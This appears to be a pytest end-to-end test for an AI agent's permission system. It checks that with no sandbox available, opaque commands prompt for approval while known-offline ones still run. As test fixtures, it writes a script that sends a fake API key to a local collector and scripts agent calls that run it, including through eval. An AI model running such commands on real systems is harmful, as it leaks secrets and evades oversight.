"""`harken ask --mode bypass` on a machine where bubblewrap cannot run: commands would run
unconfined, so bypass asks before those Harken cannot prove stay off the network (a
script, `eval`, an unknown program) and still runs the ones it can judge.

bubblewrap is made unusable the way a machine without user namespaces shows it: a
``bwrap`` first on PATH that fails, so Harken's own probe (agent.sandbox.sandbox_status)
finds no sandbox."""

from __future__ import annotations

import json
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.recording_server import RecordingServer
from tests.scripted_api import Reply, ScriptedAPI, text, tool_use

pytestmark = pytest.mark.e2e

SECRET = "sk-live-123"


@pytest.fixture
def collector() -> Iterator[RecordingServer]:
    with RecordingServer("127.0.0.1") as server:
        yield server


@pytest.fixture
def no_bwrap(tmp_path: Path) -> dict[str, str]:
    """An environment whose ``bwrap`` cannot create namespaces."""
    folder = tmp_path / "broken-bin"
    folder.mkdir()
    fake = folder / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    return {**env, "PATH": f"{folder}:{env.get('PATH', os.defpath)}"}


def results(request: dict[str, Any]) -> list[dict[str, Any]]:
    content = request["messages"][-1]["content"]
    return [b for b in content if isinstance(b, dict) and b.get("type") == "tool_result"]


def content(block: dict[str, Any]) -> str:
    body = block["content"]
    return body if isinstance(body, str) else "".join(p.get("text", "") for p in body)


@pytest.mark.parametrize(
    "command",
    [
        "{python} send.py",
        'x="{python} send.py"; eval "$x"',
        "./send.sh",
    ],
)
def test_bypass_asks_before_opaque_commands_when_there_is_no_sandbox(
    api: ScriptedAPI,
    harken,
    workspace: Path,
    collector: RecordingServer,
    no_bwrap: dict[str, str],
    command: str,
) -> None:
    url = f"{collector.url}/collect?d={SECRET}"
    (workspace / "send.py").write_text(
        f"import urllib.request\nurllib.request.urlopen({url!r}).read()\n"
    )
    (workspace / "send.sh").write_text(f"#!/bin/sh\nexec {sys.executable} send.py\n")
    (workspace / "send.sh").chmod(0o755)
    api.script(
        Reply([tool_use("Bash", {"command": command.format(python=sys.executable)})]),
        Reply([tool_use("Bash", {"command": "mkdir made && ls"})]),
        Reply([text("Done.")]),
    )

    result = harken("ask", "send it", "--mode", "bypass", env=no_bwrap)

    assert result.returncode == 0, result.stderr
    assert collector.requests == []  # nothing left the machine
    # The user is told how bypass works here, not that commands run unconfined.
    assert "No sandbox" in result.stderr and "will ask first" in result.stderr, result.stderr
    [asked] = results(api.requests[1])
    said = content(asked)
    assert asked.get("is_error") and "nobody was there to ask" in said, said
    # A command whose offline behaviour Harken knows still runs without a question.
    [made] = results(api.requests[2])
    assert not made.get("is_error"), content(made)
    assert (workspace / "made").is_dir()


def test_the_permission_check_says_the_sandbox_is_missing(
    harken, workspace: Path, no_bwrap: dict[str, str]
) -> None:
    call = json.dumps({"command": "python3 build.py"})
    result = harken(
        "permissions", "check", "--mode", "bypass", "--tool", "Bash", "--input", call, env=no_bwrap
    )

    assert result.returncode == 0, result.stderr
    decision = json.loads(result.stdout)
    assert decision["decision"] == "ask"
    assert "no sandbox" in decision["reason"] and "bubblewrap" in decision["reason"]
    # One whose offline behaviour Harken knows still runs.
    known = json.dumps({"command": "mkdir -p build && git status"})
    result = harken(
        "permissions", "check", "--mode", "bypass", "--tool", "Bash", "--input", known, env=no_bwrap
    )
    assert json.loads(result.stdout)["decision"] == "allow", result.stdout
